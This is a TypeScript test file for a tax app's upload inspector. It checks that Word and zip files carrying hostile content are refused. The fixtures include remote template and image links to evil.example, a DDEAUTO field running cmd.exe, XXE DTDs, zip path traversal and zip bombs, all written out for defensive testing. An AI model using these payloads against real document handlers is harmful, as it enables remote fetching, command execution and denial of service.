import { MB, messages, SECOND } from '@easy-tax/contracts';
import { judge, judgeInThread } from '../../testing/an-inspection.js';
import * as files from '../../testing/files.js';
import { aZip, claiming, type ZipOptions } from '../../testing/zip.js';
import { DeepInspection } from './deep-inspection.js';

const OFFICE = 'application/vnd.openxmlformats-officedocument';
const OASIS = 'application/vnd.oasis.opendocument';

const papers = aZip({
  'a/': '',
  'a/form 16.PDF': files.aPdf(),
  'a/फोटो.jpg': files.aJpeg(),
  'b.docx': files.aDocx(),
  'c.xlsx': files.anXlsx(),
  'd.doc': files.aDoc(),
  'e.tif': files.aTiff(),
  'f.csv': 'a,b\n1,2',
  'g.json': '{"a":1}',
  'h.txt': 'Dear Sir',
});

describe('a file inspected completely', () => {
  it.each([
    ['zip', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', files.aDocx()],
    ['doc', 'application/msword', files.aDoc()],
    ['tiff', 'image/tiff', files.aTiff()],
    ['text', 'text/plain', `${'आ'.repeat(MB)}.`],
    ['json', 'application/json', `[${'{"ctin":"09AKZPM4321K1ZI"},'.repeat(40_000)}0]`],
  ] as const)('that may be %s is taken as %s by its thread', async (candidate, mime, bytes) => {
    expect(await judgeInThread(candidate, bytes)).toBe(mime);
  });

  it.each([
    ['a picture cut off before its directory', 'tiff', 'image/tiff', files.aTiff().subarray(0, 9000)],
    ['a ZIP of papers', 'zip', 'application/zip', papers],
  ] as const)('is taken when it is %s', async (_, candidate, mime, bytes) => {
    expect(await judge(candidate, bytes)).toBe(mime);
  });

  it.each([
    ['an encrypted document', 'zip', files.aDocx(undefined, { encrypted: true }), messages.zipLocked],
    ['a document with macros', 'zip', files.aDocm(), messages.fileMacros],
    ['a document with a macro project among its parts', 'zip', files.aDocxWithAMacroProject(), messages.fileMacros],
    ['slides', 'zip', files.aDocx(`${OFFICE}.presentationml.presentation.main+xml`), messages.filePowerPoint],
    ['an OpenDocument text', 'zip', aZip({ mimetype: `${OASIS}.text` }), messages.fileOpenDocument],
    ['a document cut short', 'zip', files.aDocx().subarray(0, 60), messages.fileCut],
    ['an old workbook', 'doc', files.anOleFile('Workbook'), messages.fileExcel],
    ['old slides', 'doc', files.anOleFile('PowerPoint Document'), messages.filePowerPoint],
    ['a document with a password', 'doc', files.anOleFile('EncryptedPackage'), messages.fileLocked],
    ['an old document with a password', 'doc', files.aLockedDoc(), messages.fileLocked],
  ] as const)('is refused with its name and an advice when it is %s', async (_, candidate, bytes, advice) => {
    await expect(judge(candidate, bytes)).rejects.toThrow(advice);
  });

  it.each([
    ['a list of types without the document', 'zip', files.aDocxWithoutItsDocument()],
    ['an archive that would unpack to gigabytes', 'zip', files.aDocx(undefined, { claimedSize: () => 4_000_000_000 })],
    ['an archive whose list of types is a bomb', 'zip', files.aDocxWhoseTypesAreABomb()],
    ['a compound file with a loop', 'doc', files.anOleFile('Contents', 1)],
    ['a compound file cut short', 'doc', files.aDoc().subarray(0, 700)],
    ['a raw picture of a camera', 'tiff', files.aCameraRaw()],
  ] as const)('is refused when it is %s', async (_, candidate, bytes) => {
    await expect(judge(candidate, bytes)).rejects.toThrow(messages.fileKind);
  });

  const word = (changes: Record<string, string | Buffer> = {}, options?: ZipOptions) =>
    aZip({ ...files.wordParts(), ...changes }, options);

  const withTemplate = (target: string) =>
    withRelationship(files.aRelationship('attachedTemplate', target), 'word/_rels/settings.xml.rels');
  const withRelationship = (relationship: string, part = 'word/_rels/footnotes.xml.rels') =>
    word({ [part]: files.relationships(relationship) });
  const withText = (xml: string) => word({ 'word/footer1.xml': `<w:ftr xmlns:w="w" xmlns:v="v">${xml}</w:ftr>` });
  const innerField = (instruction: string) =>
    `</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>${instruction}</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText>`;
  const field = (...pieces: string[]) =>
    withText(
      `<w:fldChar w:fldCharType="begin"/>${pieces.map((piece) => `<w:instrText>${piece}</w:instrText>`).join('')}`,
    );

  it.each([
    ['Word writes it, with all that a document may have', word()],
    ['Word for Mac names its template', withTemplate('file:////Users/asha/Library/Letter%20Head.dotm')],
    ['Word names a template beside the document', withTemplate('Letter.dotm')],
    ['it lies on another disk', withTemplate('D:\\Templates\\Letter.dotm')],
    ['its field shows a picture of a mail', field(' INCLUDEPICTURE "cid:image001.png@01DC" \\d ')],
    ['it has bytes after its end', Buffer.concat([word(), Buffer.alloc(3000)])],
  ])('is taken as a document as %s', async (_, bytes) => {
    expect(await judge('zip', bytes)).toMatch('wordprocessingml');
  });

  it.each([
    'cid:image001.png@01DC',
    'data:image/png;base64,iVBOR',
    'about:blank',
    'BLOB:https://a.example/1',
    'x-msg://3/a.png',
  ])('is taken as a document when its picture is %s, which fetches nothing', async (target) => {
    expect(await judge('zip', withRelationship(files.aRelationship('image', target)))).toMatch('wordprocessingml');
  });

  it.each([
    'https://evil.example/a.dotm',
    'HTTP://evil.example/a.dotm',
    'h&#116;tp://evil.example/a.dotm',
    ' http%3A//evil.example/a.dotm',
    'ftp://evil.example/a.dotm',
    'mhtml:http://evil.example/a!x-usc:http://evil.example',
    '\\\\evil.example\\share\\a.dotm',
    '//evil.example/share/a.dotm',
    'file://evil.example/share/a.dotm',
    'file:////evil.example/share/a.dotm',
    'file:///%5C%5Cevil.example\\share\\a.dotm',
    'file:\\\\evil.example\\share\\a.dotm',
    'file:///\\?\\UNC\\evil.example\\share\\a.dotm',
  ])('is refused, with the advice to save it as PDF, when its template is %s', async (target) => {
    await expect(judge('zip', withTemplate(target))).rejects.toThrow(messages.documentUnsafe);
  });

  const EVIL = 'http://evil.example/';
  const prefixed = files
    .relationships(files.aRelationship('image', EVIL))
    .replaceAll(/(<\/?)Rel/g, '$1p:Rel')
    .replace('xmlns=', 'xmlns:p=');
  const withDtd = '\ufeff<!DOCTYPE w [<!ENTITY e "x">]><w>&e;</w>';
  const blank = files.relationships(' '.repeat(2 * MB));
  it.each([
    ...['image', 'oleObject', 'frame', 'subDocument', 'aFChunk', 'mailMergeSource'].map(
      (type) => [`has an external ${type}`, withRelationship(files.aRelationship(type, EVIL))] as const,
    ),
    ['has a page of another kind in it', withRelationship(files.aRelationship('aFChunk', 'page.mht', false))],
    ['has an external target that is declared internal', withRelationship(files.aRelationship('image', EVIL, false))],
    [
      'has one in an unreferenced part',
      withRelationship(files.aRelationship('image', EVIL), 'Custom/_RELS/x.xml.RELS'),
    ],
    ['has a relationship by another prefix', word({ 'word/_rels/footnotes.xml.rels': prefixed })],
    ['has a field that fetches a picture', field(' INCLUDE', 'PICTURE  "https://evil.example/a.png" \\d ')],
    ['has a field that fetches, with a nested field', field('INCLUDEPICTURE ', `${innerField('PAGE')}"${EVIL}a.png"`)],
    ['has one that fetches what a nested field names', field('INCLUDEPICTURE "', `${innerField(`QUOTE "${EVIL}"`)}"`)],
    ['has a field that includes from a server', field(' INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx" ')],
    ['has a field that starts a program', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
    ['has such a field in short form', withText('<w:fldSimple w:instr="LINK Word.Document.8 http://evil.example/a"/>')],
    ['has a drawing that fetches its picture', withText('<v:imagedata src="http://evil.example/a.png"/>')],
    ['has a DTD', word({ 'word/settings.xml': '<!DOCTYPE w [<!ENTITY e SYSTEM "http://evil.example/">]><w>&e;</w>' })],
    ['has a DTD in another encoding', word({ 'word/settings.xml': Buffer.from(withDtd, 'utf16le') })],
    ['has a part in a forbidden encoding', word({ 'word/settings.xml': '<?xml version="1.0" encoding="utf-7"?><w/>' })],
    ['has a part that is not well-formed', word({ 'word/settings.xml': '<w><v></w>' })],
    ['has a part outside of itself', word({ '../../evil.xml': '<w/>' })],
    ['has a part outside of itself behind escapes', word({ 'word/%2E%2e/evil.xml': '<w/>' })],
    ['has a part at the root', word({ '/etc/evil.xml': '<w/>' })],
    ['has a part on a disk', word({ 'c:/evil.xml': '<w/>' })],
    ['has a part behind backslashes', word({ '..\\evil.xml': '<w/>' })],
    ['has a part twice', aZip([...Object.entries(files.wordParts()), ['WORD/Document.xml', '<w/>']])],
    ['has a part in pieces', word({ 'word/_rels/document.xml.rels/[0].last.piece': files.relationships() })],
    ['unpacks to 500 MB', word({}, claiming('.png', 500 * MB))],
    ['unpacks to more than it declares', word({ 'word/media/a.bmp': Buffer.alloc(2 * MB) }, claiming('.bmp', 4000))],
    [
      'has relationships that unpack to more than they declare',
      word({ 'a.xml.rels': blank }, claiming('.xml.rels', 400)),
    ],
    ['has more text than any real document', word({}, claiming('word/settings.xml', 33 * MB))],
  ] as const)('is refused, with the advice to save it as PDF, when it %s', async (_, bytes) => {
    await expect(judge('zip', bytes)).rejects.toThrow(messages.documentUnsafe);
  });

  it.each([
    ['elements within each other', word({ 'word/document.xml': `${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}` })],
    ['fields within each other', word({ 'word/document.xml': files.nestedFields(2000) })],
    ['text that packs to nearly nothing', word({ 'word/document.xml': `<w>${'<p a="b"/>'.repeat(1_000_000)}</w>` })],
    ['pictures that pack to nearly nothing', word({ 'word/media/a.bmp': Buffer.alloc(30 * MB) })],
  ])('is refused, although small, when it is made of %s', async (_, bytes) => {
    await expect(judgeInThread('zip', bytes)).rejects.toThrow(messages.documentUnsafe);
  });

  it('is inspected in time though thousands of its parts share one long type', async () => {
    const parts = Object.fromEntries(Array.from({ length: 2900 }, (_, n) => [`a${n}.xml`, '']));
    const bytes = files.aDocx(undefined, { extensionType: 'a'.repeat(900_000), parts });
    // Each part compared with the whole type would take minutes; a busy machine takes longer than the limit of production.
    expect(await judgeInThread('zip', bytes, new DeepInspection(25 * SECOND))).toMatch('wordprocessingml');
  });

  it.each(['<!--', '<Override '])(
    'doesn’t delay other files when its list of types is made of %s',
    async (beginning) => {
      const shared = new DeepInspection();
      const slow = ['ravi', 'meera'].map((account) =>
        judgeInThread('zip', files.aDocxWhoseTypesNeverEnd(beginning), shared, account),
      );
      const refusals = Promise.allSettled(slow);
      expect(await judgeInThread('zip', files.aDocx(), shared)).toMatch('wordprocessingml');
      expect((await refusals).map(({ status }) => status)).toEqual(['rejected', 'rejected']);
    },
    4000,
  );

  it('is refused when its inspection takes too long', async () => {
    await expect(judgeInThread('zip', files.aDocx(), new DeepInspection(0))).rejects.toThrow(messages.fileKind);
  });

  it('is queued among those of its account', async () => {
    const results = await Promise.all(Array.from({ length: 6 }, () => judge('doc', files.aDoc())));
    expect(results).toEqual(Array(6).fill('application/msword'));
  });

  it('reports a failing store, instead of refusing the file', async () => {
    const lost = { size: 100, read: () => Promise.reject(new Error('not in the store')) };
    await expect(new DeepInspection().inspect('zip', lost, 'asha')).rejects.toThrow('not in the store');
  });
});
